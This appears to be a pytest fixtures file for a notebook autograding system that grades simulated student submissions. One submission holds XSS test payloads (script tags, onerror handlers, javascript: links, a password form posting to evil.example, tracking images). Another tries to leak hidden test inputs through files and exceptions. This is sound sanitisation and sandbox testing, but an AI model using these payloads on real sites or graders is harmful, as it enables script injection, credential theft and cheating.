"""A small assignment without NumPy and a course folder in which it was graded, which several tests read."""

import datetime
import json
import shutil
import tempfile
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace

import nbformat
import pytest
from nbgrader.api import Gradebook

from gdl_utils.classroom.course import CONFIG, TIMESTAMP, Course
from gdl_utils.classroom.grade import GradingOptions, grade_class
from nbjudge import Limits
from nbjudge.sandbox import availability
from nbjudge.zygote_client import close_zygotes
from tests.classroom import postgresql
from tests.classroom.by_nbgrader import grade_by_nbgrader, release
from tests.classroom.small_course import grade
from tests.notebooks import added, as_node, by_hand, cell, name_of, notebook, setup, test, text

NAME = "small"
BOOK = "halves"
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

SETUP = "import math\n\nSCALE = 1"
HALF = '''def half(number):
    """Half of a number."""
    ### BEGIN SOLUTION
    return number / 2
    ### END SOLUTION'''
VISIBLE = "assert half(8) == 4"
MORE_TESTS = "# More tests run here when your work is graded."
HIDDEN = """for secret_input in [7310.5, 90210.25]:
    expected_value = secret_input * 0.5
    assert half(secret_input) == expected_value"""
ROOT_OF = '''def root_of(number):
    """The square root."""
    ### BEGIN SOLUTION
    return math.sqrt(number)
    ### END SOLUTION'''
ROOT_TEST = 'assert root_of(9) == 3, "nine is three times three"'
ROOT_HIDDEN = "assert root_of(4_231_249) == 2_057"


def _source():
    return notebook(
        text("# Halves\n\nA half of $x$ is $\\frac{x}{2}$."),
        setup(SETUP),
        cell(HALF, "half", solution=True),
        test(VISIBLE, "half-visible", 1),
        test(MORE_TESTS, "half-hidden", 2, HIDDEN),
        cell(ROOT_OF, "root", solution=True),
        test(ROOT_TEST, "root-visible", 1),
        test(ROOT_TEST, "root-both", 3, ROOT_HIDDEN),
        by_hand("Because.", "essay", 3),
        language_info={"name": "python", "pygments_lexer": "ipython3"},
    )


RIGHT = {
    "half": "def half(number):\n    return number / 2",
    "root": "def root_of(number):\n    return math.sqrt(number)",
}
SPY = """
seen = []


def half(number):
    seen.append(number)
    print("called with", number)
    open("seen.txt", "a").write(f"{number}\\n")
    open("halves.html.html", "w").write(f"<script>{number}</script>")
    open("timestamp.txt", "w").write(f"secret {number}")
    if number == 8:
        return 4
    raise type(f"Got_{number}".replace(".", "_"), (Exception,), {"hint": f"seen {number}"})(f"it was {number}")
"""
TELLS = """
print(seen)
from IPython.display import display, HTML
display(HTML(f"<b>{seen}</b>"))
raise type(f"Seen_{seen[-1]}".replace(".", "_"), (Exception,), {})(seen)
"""
HOSTILE = """
from IPython.display import display, HTML, SVG, Markdown
display(HTML("<p>fine <b>bold</b> <i>&#107;ept</i></p>"))
display(HTML("<script>alert('html')</script><img src=x onerror=alert('image')>"))
display(HTML('<style>body{display:none}</style><iframe src="https://evil.example/frame"></iframe>'))
display(HTML('<img src="https://evil.example/pixel.png"><a href="jAvaScript:alert(1)">link</a>'))
display(HTML('<form action="https://evil.example"><input name=password></form><p style="position:fixed">big</p>'))
display(HTML('<svg><script>alert("svg")</script><a xlink:href="javascript:alert(2)">t</a></svg>'))
display(HTML('<math><mtext></form><mglyph><style></math><img src onerror=alert("mutation")>'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(3)"><script>alert("drawn")</script></svg>'))
display(Markdown("[press](javascript:alert(4)) ![p](https://evil.example/tracked.png)"))
display({"image/png": 'x" onerror="alert(5)'}, raw=True)
display({"image/png": "PIXEL"}, raw=True)
display({"application/javascript": "alert(6)"}, raw=True)
print("<script>alert('printed')</script>")
""".replace("PIXEL", PIXEL)
HOSTILE_TEXT = """<script>alert('cell')</script>
[a link](javascript:alert(7)) and <a href="https://good.example/" onclick="alert(8)">another</a>
![](attachment:gone.png) <img src=x onerror=alert(9)>

<p class="total">20 of 20 points</p> $x" onload="alert(10)$

| a | b |
|---|---|
| 1 | <svg onload=alert(11)> |"""


SCORES = {"ada": 7, "blank": 0, "broken": 0, "hostile": 7, "partly": 5, "spy": 5, "wrong": 3}


def _submission(released, answers, *more):
    """The released notebook with some answers, and more cells below the one at a place."""
    cells = [{**each, "source": answers.get(name_of(each), each["source"])} for each in released["cells"]]
    for place, another in more:
        cells.insert(place, another)
    return json.dumps({**released, "cells": cells})


def _submissions(released):
    rendered = HOSTILE_TEXT.replace("![](attachment:gone.png)", "")
    hostile = [
        (2, added(HOSTILE, "hostile")),
        (2, added(HOSTILE_TEXT, "text", "markdown")),
        # Markdown without the attachment that is not there is rendered.
        (2, added(rendered, "more", "markdown")),
    ]
    return {
        "ada": _submission(released, {**RIGHT, "essay": "Because *two halves* make one."}),
        "blank": _submission(released, {}),
        "broken": '{"cells": [',
        "hostile": _submission(released, RIGHT, *hostile),
        "partly": _submission(released, {"half": "def half(number):\n    return 4", "root": RIGHT["root"]}),
        "spy": _submission(released, {**RIGHT, "half": SPY}, (5, added(TELLS, "tells"))),
        "wrong": _submission(released, {**RIGHT, "root": "def root_of(number) return number"}),
    }


@pytest.fixture(scope="session")
def graded_once(root, tmp_path_factory):
    """A course in which the small assignment was graded, for tests that don't change it."""
    course = Course(tmp_path_factory.mktemp("course"), root / CONFIG)
    course.source(NAME).mkdir(parents=True)
    nbformat.write(as_node(_source()), course.source(NAME) / f"{BOOK}.ipynb")
    release(course, NAME)
    released = json.loads((course.release(NAME) / f"{BOOK}.ipynb").read_text())
    for student, content in _submissions(released).items():
        target = course.submitted(student, NAME)
        target.mkdir(parents=True)
        (target / f"{BOOK}.ipynb").write_text(content)
        (target / TIMESTAMP).write_text("2026-10-01 12:00:00 UTC")
    outcomes = []
    grade_class(course, NAME, outcomes.append, GradingOptions(Limits(cell_seconds=3), workers=1))
    assert {outcome.student: outcome.score for outcome in outcomes} == SCORES
    return course


@pytest.fixture
def graded(graded_once, tmp_path):
    """A `course` with the small assignment, graded: its `name`, the `book`, and `gradebook()`."""
    course = replace(graded_once, folder=tmp_path / "course")
    shutil.copytree(graded_once.folder, course.folder)
    return SimpleNamespace(course=course, name=NAME, book=BOOK, gradebook=lambda: Gradebook(course.db_url, "gdl"))


@pytest.fixture
def named(graded):
    """The graded class with names, one student who handed in nothing, one who was late, and a comment."""
    with graded.gradebook() as gradebook:
        gradebook.update_or_create_student(
            "ada", first_name="Ada", last_name="King", email="ada@example.org", lms_user_id="4711"
        )
        gradebook.update_or_create_student("absent", first_name="Ab", last_name="Sent", email="absent@example.org")
        gradebook.find_assignment(graded.name).duedate = datetime.datetime(2026, 10, 1, 11)
        gradebook.find_submission_notebook(graded.book, graded.name, "partly").late_submission_penalty = 2
        gradebook.find_comment("half", graded.book, graded.name, "ada").manual_comment = "Well done,\n- very short"
        gradebook.db.commit()
    return graded


@pytest.fixture(scope="module")
def database():
    """Makes new databases on a PostgreSQL server, which all tests of a module share."""
    # A short path: that of a socket may have 107 bytes.
    with tempfile.TemporaryDirectory(prefix="gdl-") as folder:
        Path(folder).chmod(0o755)
        with postgresql.server(Path(folder) / "pg") as new_database:
            yield new_database


@pytest.fixture(params=["gdl grade", "nbgrader autograde"])
def grade_the_class(request):
    """Grades all submissions in a course of `by_nbgrader.small_course`, by either of the two pipelines."""
    return grade if request.param == "gdl grade" else grade_by_nbgrader


@pytest.fixture
def remove_bubblewrap(monkeypatch, tmp_path):
    """A function after which this machine has no bubblewrap, until the test is over."""

    def remove():
        # What was started before needs none.
        close_zygotes()
        monkeypatch.setenv("PATH", str(tmp_path))
        availability.once_tested.cache_clear()

    yield remove
    availability.once_tested.cache_clear()
